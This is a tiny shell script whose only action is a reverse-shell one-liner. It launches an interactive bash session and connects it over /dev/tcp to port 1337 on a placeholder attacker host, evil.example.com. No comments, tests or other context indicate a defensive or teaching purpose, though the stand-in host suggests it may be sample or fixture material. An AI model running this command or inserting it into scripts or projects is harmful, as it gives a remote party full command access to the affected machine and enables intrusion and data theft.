#!/bin/sh
sh -c "bash -i >& /dev/tcp/evil.example.com/1337 0>&1"
